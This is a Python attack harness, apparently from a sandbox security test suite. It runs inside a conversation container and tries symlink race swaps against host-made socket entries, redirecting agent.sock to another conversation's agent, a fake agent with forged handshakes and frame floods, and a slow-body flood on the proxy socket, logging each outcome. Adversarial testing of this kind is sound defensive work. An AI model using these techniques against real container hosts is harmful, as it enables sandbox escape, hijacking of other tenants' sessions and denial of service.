#!/usr/bin/env python3
"""The attacker inside a conversation container (tests/security/hostattack).

Runs as the container user, Python standard library only, and writes every
action and its outcome as JSON lines to --log, which the test reads from the
host. Both socket layouts are tried:
  old: /var/run/hako is writable and holds agent.sock and proxy.sock;
  new: /var/run/hako is read-only, agent.sock -> agent/agent.sock, and only
       /var/run/hako/agent is writable.

  race      swap what the host creates in a writable socket directory for
            symlinks to host canaries (inotify-driven, with a scan as well:
            gVisor does not report changes made by the host)
  redirect  point agent.sock at another conversation's agent
  fake      bind a fake agent at agent.sock (Hello v1, Hello v2 with a made-up
            proof, a flood of 1 MiB Stdout frames, or the real agent's
            handshake relayed and then a flood)
  proxy     many proxy connections, each announcing a 20 MB body, trickled or
            sent as fast as possible
"""
import argparse
import ctypes
import errno
import json
import os
import select
import socket
import stat
import struct
import sys
import threading
import time

RUN = '/var/run/hako'
AGENT_DIR = RUN + '/agent'
OURS = 'hostattack'  # every name this program creates contains it

HEADER = struct.Struct('>IBI')
HELLO, CALL, STDOUT, RESULT, ERROR = 1, 2, 6, 8, 9
MAX_PAYLOAD = 1 << 20


class Log:
    def __init__(self, path):
        self._file = open(path, 'a', buffering=1)
        self._lock = threading.Lock()

    def __call__(self, event, **fields):
        fields.update(event=event, t=round(time.time(), 3))
        with self._lock:
            self._file.write(json.dumps(fields) + '\n')


def err(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if isinstance(e, OSError) and e.errno else repr(e)


def readable(objects, timeout):
    """The ones ready to read (poll(2): select(2) is refused under gVisor here)."""
    poller = select.poll()
    by_fd = {}
    for o in objects:
        fd = o if isinstance(o, int) else o.fileno()
        by_fd[fd] = o
        poller.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
    return [by_fd[fd] for fd, _ in poller.poll(timeout * 1000)]


def writable_wait(objects, timeout):
    poller = select.poll()
    for o in objects:
        poller.register(o.fileno(), select.POLLOUT)
    poller.poll(timeout * 1000)


def layout():
    # The old layout has agent.sock directly in a directory the sandbox can write.
    return 'old' if os.access(RUN, os.W_OK) else 'new'


def agent_socket():
    return RUN + '/agent.sock' if layout() == 'old' else AGENT_DIR + '/agent.sock'


def probe_writable(log, directory):
    probe = os.path.join(directory, OURS + '-probe')
    try:
        open(probe, 'w').close()
        os.unlink(probe)
        log('writable', dir=directory)
        return True
    except OSError as e:
        log('not-writable', dir=directory, error=err(e))
        return False


# ---- race -------------------------------------------------------------------

IN_CREATE, IN_MOVED_TO, IN_ISDIR = 0x100, 0x80, 0x40000000


def inotify(log, dirs):
    try:
        libc = ctypes.CDLL('libc.so.6', use_errno=True)
        fd = libc.inotify_init1(os.O_NONBLOCK)
        if fd < 0:
            raise OSError(ctypes.get_errno(), 'inotify_init1')
        for d in dirs:
            if libc.inotify_add_watch(fd, d.encode(), IN_CREATE | IN_MOVED_TO) < 0:
                raise OSError(ctypes.get_errno(), 'inotify_add_watch')
        log('inotify', dirs=dirs)
        return fd
    except OSError as e:
        log('inotify-unavailable', error=err(e))
        return -1


class Swapper:
    """Replaces host-made entries with symlinks to the canaries."""

    def __init__(self, log, canary_file, canary_dir):
        self.log, self.canary_file, self.canary_dir = log, canary_file, canary_dir
        self.seen = {}  # path -> inode last seen
        self.counts = {}

    def count(self, what):
        self.counts[what] = self.counts.get(what, 0) + 1

    def dir_created(self, path):
        # A directory cannot be renamed over; move it aside, then put the link in its place.
        aside = path + '.' + OURS + '-aside'
        try:
            os.rename(path, aside)
            os.symlink(self.canary_dir, path)
            self.count('swapped-dir')
            self.log('swapped-dir', path=path, target=self.canary_dir)
        except OSError as e:
            self.count('swap-dir-failed')
            self.log('swap-dir-failed', path=path, error=err(e))

    def file_created(self, path):
        link = path + '.' + OURS + '-link'
        try:
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(self.canary_file, link)
            os.rename(link, path)  # atomic: the name never disappears
            self.count('swapped-file')
            self.log('swapped-file', path=path, target=self.canary_file)
        except OSError as e:
            self.count('swap-file-failed')
            self.log('swap-file-failed', path=path, error=err(e))

    def consider(self, directory, name):
        if OURS in name or name == 'agent.sock' or name == 'agent':
            return
        path = os.path.join(directory, name)
        try:
            st = os.lstat(path)
        except OSError:
            return
        if self.seen.get(path) == st.st_ino:
            return
        if stat.S_ISLNK(st.st_mode):
            self.seen[path] = st.st_ino
            return
        self.log('host-made', path=path, mode=oct(st.st_mode), uid=st.st_uid)
        if stat.S_ISDIR(st.st_mode):
            self.dir_created(path)
        else:
            self.file_created(path)
        try:
            self.seen[path] = os.lstat(path).st_ino
        except OSError:
            pass


def race(a):
    log = Log(a.log)
    log('start', layout=layout(), uid=os.getuid())
    dirs = [d for d in (RUN, AGENT_DIR) if os.path.isdir(d) and probe_writable(log, d)]
    swapper = Swapper(log, a.canary_file, a.canary_dir)
    # What exists now was not made during an adoption: only later changes count.
    for d in dirs:
        for name in os.listdir(d):
            try:
                swapper.seen[os.path.join(d, name)] = os.lstat(os.path.join(d, name)).st_ino
            except OSError:
                pass
    fd = inotify(log, dirs)
    log('ready', dirs=dirs)
    deadline = time.time() + a.seconds
    while time.time() < deadline and not os.path.exists(a.stop):
        if fd >= 0:
            if readable([fd], 0.002):
                try:
                    buf = os.read(fd, 65536)
                except BlockingIOError:
                    buf = b''
                offset = 0
                while offset + 16 <= len(buf):
                    wd, mask, _cookie, length = struct.unpack_from('iIII', buf, offset)
                    name = buf[offset + 16:offset + 16 + length].split(b'\0', 1)[0].decode(errors='replace')
                    offset += 16 + length
                    for d in dirs:
                        swapper.consider(d, name)
        else:
            time.sleep(0.0005)
        # The scan catches what inotify does not report (gVisor: changes made by the host).
        for d in dirs:
            try:
                names = os.listdir(d)
            except OSError:
                continue
            for name in names:
                swapper.consider(d, name)
    log('end', counts=swapper.counts)


# ---- redirect ---------------------------------------------------------------

def redirect(a):
    log = Log(a.log)
    lay = layout()
    log('start', layout=lay, uid=os.getuid())
    if lay == 'old':
        sock = RUN + '/agent.sock'
        target = {'relative': '../%s/agent.sock' % a.key_b,
                  'absolute': '%s/sockets/%s/agent.sock' % (a.runtime_dir, a.key_b),
                  'absolute-link': '%s/sockets/%s/agent.sock' % (a.runtime_dir, a.key_b)}[a.mode]
    else:
        sock = AGENT_DIR + '/agent.sock'
        target = {'relative': '../../%s/agent/agent.sock' % a.key_b,
                  'absolute': '%s/sockets/%s/agent/agent.sock' % (a.runtime_dir, a.key_b),
                  # B's own agent.sock, the link in its read-only directory
                  'absolute-link': '%s/sockets/%s/agent.sock' % (a.runtime_dir, a.key_b)}[a.mode]
        # The symlink in the read-only directory: replacing it would be the direct way.
        try:
            os.unlink(RUN + '/agent.sock')
            os.symlink(target, RUN + '/agent.sock')
            log('replaced', path=RUN + '/agent.sock', target=target)
        except OSError as e:
            log('replace-failed', path=RUN + '/agent.sock', error=err(e))
    try:
        os.rename(sock, sock + '.' + OURS + '-real')  # the real agent keeps listening there
        os.symlink(target, sock)
        log('redirected', path=sock, target=target)
        print('redirected %s -> %s' % (sock, target))
    except OSError as e:
        log('redirect-failed', path=sock, error=err(e))
        print('redirect failed: %s' % err(e))


# ---- fake -------------------------------------------------------------------

def recv_exact(s, n):
    data = bytearray()
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            return None
        data += chunk
    return bytes(data)


def read_frame(s):
    header = recv_exact(s, HEADER.size)
    if header is None:
        return None
    length, kind, ident = HEADER.unpack(header)
    if length > MAX_PAYLOAD:
        raise ValueError('payload of %d bytes' % length)
    payload = recv_exact(s, length)
    if payload is None:
        return None
    return kind, ident, payload


def send_frame(s, kind, ident, payload):
    s.sendall(HEADER.pack(len(payload), kind, ident) + payload)


def flood(log, conn, ident, deadline):
    frame = HEADER.pack(MAX_PAYLOAD, STDOUT, ident) + b'A' * MAX_PAYLOAD
    conn.settimeout(5)
    sent, stalls, started = 0, 0, time.time()
    log('flood-start', id=ident)
    while time.time() < deadline:
        try:
            conn.sendall(frame)
            sent += 1
        except socket.timeout:
            stalls += 1  # the host stopped reading but kept the connection
        except OSError as e:
            log('flood-end', frames=sent, stalls=stalls, seconds=round(time.time() - started, 2), error=err(e))
            return
    log('flood-end', frames=sent, stalls=stalls, seconds=round(time.time() - started, 2), error='deadline')


def serve_connection(a, log, conn, number, real):
    deadline = time.time() + a.seconds
    conn.settimeout(10)
    log('connected', conn=number)
    try:
        first = read_frame(conn)
        if first is None:
            log('closed', conn=number, before='hello')
            return
        kind, ident, payload = first
        log('frame', conn=number, type=kind, id=ident, payload=payload[:400].decode(errors='replace'))
        if a.mode == 'relay-flood':
            upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            upstream.settimeout(10)
            upstream.connect(real)
            send_frame(upstream, kind, ident, payload)
            answer = read_frame(upstream)
            if answer is None:
                log('relay-failed', conn=number, why='the real agent closed')
                return
            log('relayed-hello', conn=number, payload=answer[2][:400].decode(errors='replace'))
            send_frame(conn, *answer)
        elif a.mode == 'hello-v2':
            send_frame(conn, HELLO, 0, json.dumps({'version': 2, 'agent': 'hako-agent 0.2',
                                                   'seccomp': 'counted', 'proof': 'ab' * 32}).encode())
        else:
            send_frame(conn, HELLO, 0, json.dumps({'version': 1, 'agent': 'hako-agent 0.1',
                                                   'seccomp': 'counted'}).encode())
        conn.settimeout(1 if a.mode.endswith('flood') else 10)
        while time.time() < deadline:
            try:
                frame = read_frame(conn)
            except socket.timeout:
                if a.mode.endswith('flood'):
                    flood(log, conn, 1, deadline)  # no call seen: a guessed id
                    return
                continue
            if frame is None:
                log('closed', conn=number, by='host')
                return
            kind, ident, payload = frame
            log('call' if kind == CALL else 'frame', conn=number, type=kind, id=ident,
                payload=payload[:400].decode(errors='replace'))
            if kind != CALL:
                continue
            if a.mode.endswith('flood'):
                flood(log, conn, ident, deadline)
                return
            text = b'answered by the fake agent\n'
            send_frame(conn, STDOUT, ident, text)
            send_frame(conn, RESULT, ident, json.dumps({
                'exit_code': 0, 'signal': None, 'timed_out': False, 'oom_killed': False, 'cancelled': False,
                'truncated': False, 'stdout_bytes': len(text), 'stderr_bytes': 0, 'duration_ms': 1}).encode())
    except (OSError, ValueError) as e:
        log('connection-error', conn=number, error=err(e))
    finally:
        conn.close()


def fake(a):
    log = Log(a.log)
    sock = agent_socket()
    real = sock + '.' + OURS + '-real'
    log('start', layout=layout(), uid=os.getuid(), mode=a.mode, path=sock)
    try:
        os.rename(sock, real)
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(sock)
        os.chmod(sock, 0o777)
        server.listen(16)
    except OSError as e:
        log('bind-failed', path=sock, error=err(e))
        return 1
    log('ready', path=sock, real=real)
    server.settimeout(0.5)
    deadline = time.time() + a.seconds
    number = 0
    while time.time() < deadline:
        try:
            conn, _ = server.accept()
        except socket.timeout:
            continue
        number += 1
        threading.Thread(target=serve_connection, args=(a, log, conn, number, real), daemon=True).start()
    log('end', connections=number)
    return 0


# ---- proxy ------------------------------------------------------------------

def proxy(a):
    log = Log(a.log)
    head = ('POST /model/anthropic.claude-3-haiku-20240307-v1:0/invoke HTTP/1.1\r\n'
            'Host: bedrock-runtime.us-east-1.amazonaws.com\r\n'
            'Content-Type: application/json\r\n'
            'Content-Length: %d\r\n\r\n' % a.length).encode()
    piece = b'x' * 65536
    conns = []
    for i in range(a.connections):
        c = {'n': i, 'sent': 0, 'state': 'open', 'status': None, 'ended_after': None}
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.setblocking(False)
        given_up = time.time() + 5
        while True:
            try:
                s.connect(RUN + '/proxy.sock')
                c['sock'] = s
                break
            except BlockingIOError as e:
                # The listen backlog is full until the host accepts: wait for it, briefly.
                if time.time() > given_up:
                    c['state'], c['error'], c['ended_after'] = 'refused', err(e), 0.0
                    break
                time.sleep(0.02)
            except OSError as e:
                c['state'], c['error'], c['ended_after'] = 'refused', err(e), 0.0
                break
        if 'sock' in c:
            try:
                s.setblocking(True)
                s.settimeout(5)
                s.sendall(head)
                s.setblocking(False)
            except OSError as e:
                c['state'], c['error'], c['ended_after'] = 'cut', err(e), 0.0
                s.close()
        else:
            s.close()
        conns.append(c)
    started = time.time()
    log('ready', open=sum(1 for c in conns if c['state'] == 'open'))

    def end(c, state, **extra):
        c['state'], c['ended_after'] = state, round(time.time() - started, 2)
        c.update(extra)
        c['sock'].close()

    deadline = started + a.seconds
    while time.time() < deadline:
        live = [c for c in conns if c['state'] == 'open']
        if not live:
            break
        elapsed = time.time() - started
        for c in live:
            due = min(a.length, int(a.rate * elapsed) + 1) if a.rate else a.length
            want = min(due - c['sent'], len(piece))
            if want <= 0:
                continue
            try:
                c['sent'] += c['sock'].send(piece[:want])
            except BlockingIOError:
                pass
            except OSError as e:
                end(c, 'cut', error=err(e))
        ready = readable([c['sock'] for c in conns if c['state'] == 'open'], 0.05 if a.rate else 0)
        for c in conns:
            if c['state'] != 'open' or c['sock'] not in ready:
                continue
            try:
                data = c['sock'].recv(4096)
            except OSError as e:
                end(c, 'cut', error=err(e))
                continue
            if data:
                end(c, 'answered', status=data.split(b'\r\n', 1)[0].decode(errors='replace'))
            else:
                end(c, 'cut', error='eof')
        if not a.rate:
            writable_wait([c['sock'] for c in conns if c['state'] == 'open'], 0.05)
    held = [c for c in conns if c['state'] == 'open']
    for c in held:
        c['sock'].close()
    states = {}
    for c in conns:
        states[c['state']] = states.get(c['state'], 0) + 1
    report = {'connections': a.connections, 'states': states, 'seconds': round(time.time() - started, 2),
              'bytes_sent': sum(c['sent'] for c in conns),
              'statuses': sorted({c['status'] for c in conns if c['status']}),
              'ended': [{k: c[k] for k in ('n', 'state', 'sent', 'status', 'error', 'ended_after') if k in c}
                        for c in conns if c['state'] != 'open']}
    log('end', **report)
    with open(a.out + '.' + OURS + '-tmp', 'w') as f:
        json.dump(report, f)
    os.rename(a.out + '.' + OURS + '-tmp', a.out)


def main():
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest='command', required=True)
    p = sub.add_parser('race')
    p.add_argument('--canary-file', required=True)
    p.add_argument('--canary-dir', required=True)
    p.add_argument('--stop', required=True)
    p.add_argument('--seconds', type=float, default=600)
    p = sub.add_parser('redirect')
    p.add_argument('--key-b', required=True)
    p.add_argument('--runtime-dir', required=True)
    p.add_argument('--mode', choices=('relative', 'absolute', 'absolute-link'), required=True)
    p = sub.add_parser('fake')
    p.add_argument('--mode', choices=('hello-v1', 'hello-v2', 'flood', 'relay-flood'), required=True)
    p.add_argument('--seconds', type=float, default=600)
    p = sub.add_parser('proxy')
    p.add_argument('--connections', type=int, default=64)
    p.add_argument('--length', type=int, default=20000000)
    p.add_argument('--rate', type=int, default=0, help='bytes per second per connection; 0: as fast as possible')
    p.add_argument('--seconds', type=float, default=60)
    p.add_argument('--out', required=True)
    for p in sub.choices.values():
        p.add_argument('--log', required=True)
    a = parser.parse_args()
    return {'race': race, 'redirect': redirect, 'fake': fake, 'proxy': proxy}[a.command](a) or 0


if __name__ == '__main__':
    sys.exit(main())
